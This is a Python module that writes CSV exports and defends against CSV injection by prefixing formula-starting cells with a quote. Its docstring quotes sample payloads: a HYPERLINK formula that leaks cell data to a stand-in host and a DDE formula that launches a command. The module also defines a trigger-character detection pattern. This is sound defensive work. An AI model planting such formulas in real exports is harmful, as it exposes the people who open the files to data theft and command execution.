"""CSV the workbench writes: text cells that a spreadsheet would run as a formula are defused.

A value such as ``=HYPERLINK("http://x/?"&A1)`` or ``=cmd|' /C calc'!A0`` arrives in a vendor
export or a recognised image reference and would run when an export is opened in a
spreadsheet (CSV injection). Every CSV the workbench writes goes through :func:`csv_bytes`,
which prefixes such cells with a single quote, as OWASP recommends.
"""

from __future__ import annotations

import polars as pl

__all__ = ["FORMULA_TRIGGERS", "csv_bytes", "defuse_formulas"]

#: A cell starting with one of these is read as a formula (or turns into one) by spreadsheets.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_TRIGGER_PATTERN = r"^[=+\-@\t\r]"


def defuse_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """Prefix every text cell that starts a formula with ``'``; other cells are unchanged.

    Examples
    --------
    >>> defuse_formulas(pl.DataFrame({"a": ["=1+1", "ok", "-2", None]}))["a"].to_list()
    ["'=1+1", 'ok', "'-2", None]
    """
    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    return frame.with_columns(
        pl.when(pl.col(name).str.contains(_TRIGGER_PATTERN))
        .then(pl.lit("'") + pl.col(name))
        .otherwise(pl.col(name))
        .alias(name)
        for name in text
    )


def csv_bytes(frame: pl.DataFrame) -> bytes:
    r"""The CSV text of ``frame`` (UTF-8), with list columns joined by ``;`` and formulas defused.

    Examples
    --------
    >>> csv_bytes(pl.DataFrame({"ref": ['=HYPERLINK("http://x")'], "alt": [["-1", "A"]]}))
    b'ref,alt\n"\'=HYPERLINK(""http://x"")",\'-1;A\n'
    """
    lists = [name for name, dtype in frame.schema.items() if isinstance(dtype, pl.List)]
    flat = frame.with_columns(
        pl.col(name).cast(pl.List(pl.String)).list.join(";") for name in lists
    )
    return defuse_formulas(flat).write_csv().encode()
